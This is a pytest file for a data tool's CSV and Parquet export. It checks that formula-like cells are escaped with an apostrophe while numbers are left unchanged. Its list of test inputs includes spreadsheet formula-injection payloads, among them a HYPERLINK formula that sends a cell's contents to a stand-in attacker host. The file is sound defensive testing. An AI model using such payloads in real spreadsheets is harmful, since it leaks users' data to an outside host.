# SPDX-License-Identifier: Apache-2.0
"""No text in a file of CSV is a formula to a spreadsheet, and numbers are numbers."""

from __future__ import annotations

import csv
import io
import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import polars as pl
import pytest

from swtch import cells, cli, data, store
from swtch.own import guard

OLD = Path(__file__).parent / "data" / "run-schema-1"
FORMULAS = (
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "- item",
    "---",
    "\t=1+1",
    "\r\n=1",
    " = 1",
    "\uff1d1+1",
    "-1 x",
    "+49 30 1234",
)
NUMBERS = ("-1", "+2.5", "-.5", "-3.", " -1e-9", "+1E6", "-inf", "+nan", "0", "12")
TEXTS = ("", "-", "+", "=", "@", "a=1", "1-2", "'=1", "native", "<-")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_has_the_sign_of_text_before_it(text: str) -> None:
    assert cells.plain(text) == f"'{text}"


@pytest.mark.parametrize("text", [*NUMBERS, *TEXTS])
def test_a_number_and_any_other_text_is_as_it_is(text: str) -> None:
    assert cells.plain(text) == text


def test_what_is_no_text_is_as_it_is() -> None:
    assert [cells.plain(value) for value in (-1, -2.5, None, True)] == [-1, -2.5, None, True]


@pytest.fixture
def run(tmp_path: Path) -> Iterator[Path]:
    """A run of somebody who means ill, with a value below zero."""
    path = shutil.copytree(OLD, tmp_path / "run")
    file = path / store.SAMPLES
    lines = []
    for line in file.read_text().splitlines():
        sample = json.loads(line)
        sample["elsewhere"] = {FORMULAS[sample["seq"] % len(FORMULAS)]: "yes"}
        sample["values"]["=skew"] = -1.5
        lines.append(json.dumps(sample))
    file.write_text("\n".join([*lines, ""]))
    yield path
    guard.clear()  # what was to be said of this run is not for another test's command


def assert_tame(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            assert cell.strip()[:1] not in ("=", "@", "+", "\uff1d") or len(cell) == 1, cell
            assert not cell.strip().startswith("-") or cell == "-" or float(cell) < 0
    (skew,) = {row[rows[0].index("'=skew")] for row in rows[1:]}
    assert float(skew) == -1.5


def test_shown_and_exported_there_is_no_formula(
    run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli.main(["show", str(run), "--format", "csv"]) == 0
    assert_tame(capsys.readouterr().out)
    out = tmp_path / "out"
    assert cli.main(["export", str(run), "--out", str(out)]) == 0
    assert_tame((out / "samples.csv").read_bytes().decode())


def test_where_columns_have_types_texts_are_as_they_are(run: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert cli.main(["export", str(run), "--format", "parquet", "--out", str(out)]) == 0
    read = pl.read_parquet(out / "samples.parquet")
    assert set(read["elsewhere"]) == {f"{text}: yes" for text in FORMULAS}
    assert read.equals(data.Run(store.load(run), warns=False).samples)


def test_a_frame_keeps_its_types_and_what_is_missing() -> None:
    frame = pl.DataFrame({"@a": ["=1", None, "-2"], "b": [-1, None, 3], "c": [-0.5, 1.0, None]})
    tame = cells.frame(frame)
    assert tame.columns == ["'@a", "b", "c"]
    assert tame["'@a"].to_list() == ["'=1", None, "-2"]
    assert tame.drop("'@a").equals(frame.drop("@a"))
    assert cells.frame(pl.DataFrame()).width == 0
